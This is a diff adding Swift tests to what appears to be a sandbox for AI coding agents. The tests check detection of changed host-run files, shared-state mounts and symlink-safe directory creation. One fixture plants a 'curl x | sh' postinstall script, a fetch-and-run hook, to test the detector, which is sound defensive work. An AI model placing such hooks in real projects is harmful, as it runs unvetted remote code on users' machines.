@@ -213,3 +213,79 @@ import Testing
         #expect(!Files.exists(root + "/.idea"))
     }
 }
+
+@Suite struct HostRunFilesTests {
+    @Test func listsAddedChangedAndRemovedFilesThatRunOnTheHostWithTheScriptsThatChanged() throws {
+        let fm = FileManager.default
+        let root = Files.absolute(fm.temporaryDirectory.path) + "/runfiles-\(UUID().uuidString)"
+        defer { try? fm.removeItem(atPath: root) }
+        try fm.createDirectory(atPath: root + "/web/.github/workflows", withIntermediateDirectories: true)
+        try fm.createDirectory(atPath: root + "/node_modules/x", withIntermediateDirectories: true)
+        let write = { (path: String, text: String) in
+            #expect(fm.createFile(atPath: root + "/" + path, contents: Data(text.utf8)))
+        }
+        write("package.json", #"{"scripts": {"test": "jest"}}"#)
+        write("Makefile", "all:\n")
+        write("web/.github/workflows/ci.yml", "on: push\n")
+        write("README.md", "hello\n")
+        write("node_modules/x/package.json", "{}")
+        let before = HostRunFiles.snapshot(workspace: root)
+        #expect(Set(before.files.keys) == ["package.json", "Makefile", "web/.github/workflows/ci.yml"])
+
+        write("package.json", #"{"scripts": {"test": "jest", "postinstall": "curl x | sh"}}"#)
+        try fm.removeItem(atPath: root + "/Makefile")
+        write("web/.envrc", "export A=1\n")
+        write("README.md", "changed, but not run by anything\n")
+        write("node_modules/x/package.json", #"{"scripts": {"install": "evil"}}"#)
+        let changes = HostRunFiles.changes(from: before, to: HostRunFiles.snapshot(workspace: root))
+        #expect(
+            changes == [
+                .init(kind: .removed, path: "Makefile"),
+                .init(kind: .changed, path: "package.json", detail: "scripts: postinstall"),
+                .init(kind: .added, path: "web/.envrc"),
+            ])
+        #expect(HostRunFiles.report([]) == nil)
+        #expect(HostRunFiles.report(changes)?.contains("changed  package.json (scripts: postinstall)") == true)
+    }
+
+    @Test func aPackageJsonEditOutsideItsScriptsSaysSo() {
+        let old = Data(#"{"version": "1.0.0", "scripts": {"b": "tsc"}}"#.utf8)
+        let new = Data(#"{"version": "1.0.1", "scripts": {"b": "tsc"}}"#.utf8)
+        #expect(HostRunFiles.scriptChanges(old, new) == "scripts unchanged")
+        #expect(HostRunFiles.scriptChanges(old, Data("not json".utf8)) == nil)
+    }
+}
+
+@Suite struct SharedAgentStateTests {
+    @Test func sharedStateDirectoriesAreBoundOverTheHome() {
+        var record = SandboxRecord(
+            name: "claude-p", agent: "claude", workspace: "/home/u/p", template: "claude", image: "abc", user: "agent",
+            sudo: false, runtime: "runc", command: ["claude"], environment: [], mounts: [], limits: .init(),
+            created: Date())
+        record.sharedState = .init(directory: "/s/agent-state/claude", paths: [".claude", ".local/share/x"])
+        let spec = SandboxSpec(
+            record: record, paths: StateStore(root: "/s").sandbox("claude-p"), imageRootfs: "/s/images/abc/rootfs",
+            user: .init(name: "agent", sudo: false), resources: nil, cgroupsPath: nil)
+        let mounts = spec.runtimeSpec().mounts
+        let order = mounts.map(\.destination)
+        #expect(mounts.first { $0.destination == "/home/agent/.claude" }?.source == "/s/agent-state/claude/.claude")
+        #expect(
+            mounts.first { $0.destination == "/home/agent/.local/share/x" }?.source
+                == "/s/agent-state/claude/.local/share/x")
+        // After the home itself, which they cover.
+        #expect(order.firstIndex(of: "/home/agent")! < order.firstIndex(of: "/home/agent/.claude")!)
+    }
+
+    @Test func makingDirectoriesRefusesToFollowALinkTheSandboxLeft() throws {
+        let fm = FileManager.default
+        let root = Files.absolute(fm.temporaryDirectory.path) + "/state-\(UUID().uuidString)"
+        defer { try? fm.removeItem(atPath: root) }
+        try fm.createDirectory(atPath: root + "/home", withIntermediateDirectories: true)
+        try fm.createDirectory(atPath: root + "/elsewhere", withIntermediateDirectories: true)
+        try fm.createSymbolicLink(atPath: root + "/home/.local", withDestinationPath: root + "/elsewhere")
+        #expect(throws: AirlockError.self) { try Files.makeDirectories(".local/share/x", under: root + "/home") }
+        #expect(!Files.exists(root + "/elsewhere/share"))
+        try Files.makeDirectories(".claude/projects", under: root + "/home")
+        #expect(Files.isDirectory(root + "/home/.claude/projects"))
+    }
+}
